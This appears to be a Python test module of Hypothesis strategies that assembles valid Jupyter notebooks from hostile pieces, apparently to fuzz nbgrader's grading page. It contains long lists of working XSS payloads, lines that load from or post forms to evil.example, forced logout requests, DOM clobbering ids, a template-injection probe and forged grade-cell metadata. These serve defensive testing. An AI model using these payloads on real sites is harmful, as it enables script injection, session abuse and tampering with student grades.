"""Notebooks that nbformat accepts, assembled from hostile pieces, as strategies for hypothesis."""

from collections.abc import Callable
from typing import Any

import nbformat
from hypothesis import strategies as st

from tests.attacks.pages.names import RUN, WITH_SLASH

#: Sets ``window.hostile`` in a browser, wherever HTML is taken as HTML.
HTML = (
    f"<script>{RUN}</script>",
    f"<SCRIPT/x>{RUN}</ScRiPt >",
    f"<script nonce=''>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x:x onerror&#61;{RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='data:text/javascript,{RUN}'/></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/></svg>",
    f"<math><mtext></mtext><mglyph><style></math><img src=x onerror={RUN}>",
    f"<math><mi//xlink:href='javascript:{RUN}'>x",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<object data='javascript:{RUN}'></object><embed src='javascript:{RUN}'>",
    f"<a href='javascript:{RUN}'>x</a><a href='java&Tab;script:{RUN}'>x</a>",
    f"<a href='&#1;javascript:{RUN}'>x</a><a href='vbscript:x'>x</a>",
    f"<a href='data:text/html,<script>opener.{RUN}</script>'>x</a>",
    "<base href='https://evil.example/'><base target=_parent>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "<link rel=stylesheet href='https://evil.example/x.css'><link rel=import href=x>",
    "<style>*{display:none}</style><style>@import 'https://evil.example/';</style>",
    "<div style='position:fixed;inset:0;z-index:9999;background:url(https://evil.example/)'>x</div>",
    "<form action='https://evil.example/'><input name=x><button>x</button></form>",
    "<input class='score tabbable' id=test value=99><textarea class=comment id=why-comment>x",
    "<div class='nbgrader_cell'><input class=score id=why></div>",
    "<input type=image src=x formaction='/hub/logout'><select><option>x</select>",
    "<img name=getElementById><img id=location><a id=formgrader><form id=submission_id>",
    "<img src='/hub/logout'><img src='//evil.example/x'><img srcset='/hub/logout 1x'>",
    "<img src='../../../../api/students'><audio src='/hub/logout'>",
    "</div></div></div></div></body></html><p>out",
    "</textarea></script></style></title><!-- <table><tr><td>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<table><img src=x onerror={RUN}><tr><td><svg/onload={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<marquee onstart={RUN}>x</marquee><video><source onerror={RUN}></video>",
    f"<p autofocus tabindex=1 onfocus={RUN}>x",
    f"<a href='x' onmouseover={RUN} style='position:fixed;inset:0'>x</a>",
    "<p data-link='javascript:x' data-toggle=tooltip data-html=true title='<img src=x>'>x</p>",
    f"<script type='text/x-mathjax-config'>{RUN}</script>",
    f"<script type='application/vnd.jupyter.widget-view+json'>{{}}</script><script>{RUN}</script>",
    "<b>" * 300 + "deep",
    *WITH_SLASH.values(),
)
#: Markdown and formulas.
MARKDOWN = (
    f"[x](javascript:{RUN}) ![x](javascript:{RUN}) <javascript:{RUN}>",
    f"[x]: javascript:{RUN}\n\n[x] [x][x]",
    f"[x](<java\tscript:{RUN}>) [x](data:text/html;base64,PHNjcmlwdD4=)",
    f'![x](x "\\" onerror={RUN} ")  ![" onerror={RUN} "](x)',
    f"![x](attachment:'\"><img src=x onerror={RUN}>) ![x](attachment:missing.png)",
    rf"$\href{{javascript:{RUN}}}{{x}}$ $$\require{{html}}\style{{position:fixed}}{{x}}$$",
    rf"\(\unicode{{<img src=x onerror={RUN}>}}\) $\text{{<img src=x onerror={RUN}>}}$",
    rf"$$\class{{score}}{{x}} \cssId{{test}}{{x}} \data{{x}}$$ $<svg onload={RUN}>$",
    rf"\begin{{equation}}<img src=x onerror={RUN}>\end{{equation}}",
    r"$\def\x{\x\x}\x$ $$\newcommand{\y}{\y\y}\y$$",
    "`" * 99 + "$$$$\\\\\\[[[[((((" + "> " * 50,
    f"```html\n<img src=x onerror={RUN}>\n```\n```'\"><svg onload={RUN}>\nx\n```",
    f"```mermaid\ngraph TD; A[<img src=x onerror={RUN}>]\n```",
    f'# <img src=x onerror={RUN}>\n## " onclick={RUN} "',
    "| a |\n|---|\n" + f"| <img src=x onerror={RUN}> |",
    "- [ ] task\n- [x] <input class=score>",
    "{{ resources }} {% raw %} {# x #} {{ ''.__class__.__mro__ }}",
)
ODD = (
    *("\x00", "\u202e\u2066text", "\ud83d", "\ufeff", "\u2028\u2029", "a\u0301" * 50),
    *("\x1b[31m<b>\x1b[0m\x1b]8;;javascript:x\x07x\x1b]8;;\x07", "\x1b[999999999m\x1b[", "\r\x08"),
    *("", " ", "\t" * 99, "x" * 5000, "\U0001d54a\U0001d554"),
)
_pieces = st.sampled_from((*HTML, *MARKDOWN, *ODD))
texts = st.lists(_pieces | st.text(max_size=20), max_size=4).map("".join)
#: Anything that JSON can hold, mostly in the place of something else.
values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-(2**60), 2**60)
    | st.floats(allow_nan=False)
    | _pieces
    | st.sampled_from([f"1 onload={RUN}", f'1" onload="{RUN}', "1e309", "100%", "9" * 400]),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(_pieces, inner, max_size=3),
    max_leaves=6,
)
MIME = (
    *("text/html", "text/plain", "text/markdown", "text/latex", "image/svg+xml"),
    *("image/png", "image/jpeg", "image/gif", "application/pdf", "application/javascript"),
    *("application/json", "application/vnd.jupyter.widget-view+json", "text/vnd.mermaid"),
    *("application/vnd.jupyter.widget-state+json", "text/x", "x/'\"><svg onload=1>"),
)


def _mimebundle() -> st.SearchStrategy[dict[str, Any]]:
    """JSON types hold any value, and all others a text or a list of texts (nbformat)."""
    lines = st.lists(texts, max_size=3)

    def content(mime: str) -> st.SearchStrategy[Any]:
        return values if mime.endswith("json") else texts | lines

    pairs = st.sampled_from(MIME).flatmap(lambda mime: st.tuples(st.just(mime), content(mime)))
    return st.lists(pairs, min_size=1, max_size=3).map(dict)


_sizes = st.dictionaries(st.sampled_from(["width", "height", "alt", "class", "onload"]), values)
_output_metadata = st.dictionaries(
    st.sampled_from(MIME), _sizes | values, max_size=3
) | st.fixed_dictionaries({"isolated": values, "needs_background": values})
outputs = st.one_of(
    st.fixed_dictionaries(
        {
            "output_type": st.sampled_from(["display_data"]),
            "data": _mimebundle(),
            "metadata": _output_metadata,
        }
    ),
    st.fixed_dictionaries(
        {
            "output_type": st.just("execute_result"),
            "data": _mimebundle(),
            "metadata": _output_metadata,
            "execution_count": st.none() | st.integers(0, 2**60),
        }
    ),
    st.fixed_dictionaries(
        {
            "output_type": st.just("stream"),
            "name": st.sampled_from(["stdout", "stderr"]) | _pieces,
            "text": texts | st.lists(texts, max_size=3),
        }
    ),
    st.fixed_dictionaries(
        {
            "output_type": st.just("error"),
            "ename": texts,
            "evalue": texts,
            "traceback": st.lists(texts, max_size=3),
        }
    ),
)
_tags = st.lists((texts | st.text()).filter(lambda tag: tag and "," not in tag), unique=True)
_known_metadata = st.fixed_dictionaries(
    {},
    optional={
        "tags": _tags,
        "collapsed": st.booleans(),
        "jupyter": st.fixed_dictionaries({"source_hidden": st.booleans(), "x": values}),
        "trusted": values,
        "slideshow": values,
        "magics_language": values,
    },
)
_other_metadata = st.builds(
    lambda known, other: other | known,
    _known_metadata,
    st.dictionaries(_pieces, values, max_size=2),
)
_widgets = st.fixed_dictionaries(
    {
        "application/vnd.jupyter.widget-state+json": values
        | st.fixed_dictionaries({"version_major": values, "state": values})
    }
)
_notebook_metadata = st.fixed_dictionaries(
    {},
    optional={
        "kernelspec": st.fixed_dictionaries({"name": texts, "display_name": texts}),
        "language_info": st.fixed_dictionaries(
            {"name": texts | st.sampled_from(["python", "html", "r", "../x"])},
            optional={"pygments_lexer": texts, "codemirror_mode": texts, "mimetype": texts},
        ),
        "title": texts,
        "authors": st.lists(values, max_size=2),
        "widgets": _widgets | values,
    },
)
_attachments = st.dictionaries(_pieces, st.dictionaries(st.sampled_from(MIME), texts), max_size=2)
#: The cells of the released assignment, with their ids: nbgrader restores the metadata of these.
GRADED = {
    "test": {"grade": True, "solution": False, "locked": True, "task": False, "points": 3},
    "why": {"grade": True, "solution": True, "locked": False, "task": False, "points": 5},
    "draw": {"grade": False, "solution": False, "locked": True, "task": True, "points": 2},
}


def _nbgrader(name: str) -> dict[str, Any]:
    return GRADED[name] | {"grade_id": name, "schema_version": 3}


def _graded(name: str) -> st.SearchStrategy[dict[str, Any]]:
    return _other_metadata.map(lambda other: other | {"nbgrader": _nbgrader(name)})


#: A student's own cells with nbgrader's metadata: copies of graded cells, and anything else.
_flags = dict.fromkeys(("grade", "solution", "task", "locked"), st.booleans() | values)
_forged = st.fixed_dictionaries(
    {
        "nbgrader": st.sampled_from(sorted(GRADED)).map(_nbgrader)
        | st.fixed_dictionaries({"grade_id": texts | values, "points": values, **_flags})
        | values
    }
)


def _markdown(metadata: st.SearchStrategy[Any]) -> st.SearchStrategy[dict[str, Any]]:
    return st.fixed_dictionaries(
        {"cell_type": st.just("markdown"), "source": _sources, "metadata": metadata},
        optional={"attachments": _attachments},
    )


def _code(metadata: st.SearchStrategy[Any]) -> st.SearchStrategy[dict[str, Any]]:
    return st.fixed_dictionaries(
        {
            "cell_type": st.just("code"),
            "source": _sources,
            "metadata": metadata,
            "outputs": st.lists(outputs, max_size=3),
            "execution_count": st.none() | st.integers(0, 2**60),
        }
    )


_sources = texts | st.lists(texts, max_size=2)
_raw = st.fixed_dictionaries(
    {"cell_type": st.just("raw"), "source": _sources, "metadata": _other_metadata},
    optional={"attachments": _attachments},
)
_cells = st.lists(
    st.one_of(
        _markdown(_other_metadata), _code(_other_metadata), _raw, _markdown(_forged), _code(_forged)
    ),
    max_size=3,
)
#: Cell ids of nbformat 4.5 that are words of the page.
_ids = st.permutations(
    ["test", "why-comment", "notebook", "location", "formgrader", "a", "b", "c", "d"]
)


@st.composite
def notebooks(draw: Callable[..., Any]) -> dict[str, Any]:
    """A valid notebook (nbformat 4.4 or 4.5) with the three graded cells of the assignment."""
    cells = [
        *draw(_cells),
        draw(_code(_graded("test"))),
        draw(_markdown(_graded("why"))),
        *draw(_cells),
        draw(_markdown(_graded("draw"))),
    ]
    minor = draw(st.sampled_from([4, 5]))
    if minor == 5:
        cells = [cell | {"id": one} for cell, one in zip(cells, draw(_ids), strict=False)]
    notebook = {
        "nbformat": 4,
        "nbformat_minor": minor,
        "metadata": draw(_notebook_metadata),
        "cells": cells,
    }
    nbformat.validate(notebook)
    return notebook


def graded_cells(notebook: dict[str, Any]) -> tuple[set[str], set[str]]:
    """The ids of the cells that have a score, and of those that have a comment.

    Of several cells with one id, nbgrader keeps the last.
    """
    found: dict[str, dict[str, Any]] = {}
    for cell in notebook["cells"]:
        nbgrader = cell["metadata"].get("nbgrader")
        if cell["cell_type"] == "raw" or not isinstance(nbgrader, dict):
            continue
        name = nbgrader.get("grade_id")
        if isinstance(name, str) and name:
            found[name] = nbgrader
    scores = {name for name, one in found.items() if one["grade"] is True or one["task"] is True}
    comments = {
        name for name, one in found.items() if one["solution"] is True or one["task"] is True
    }
    return scores, comments
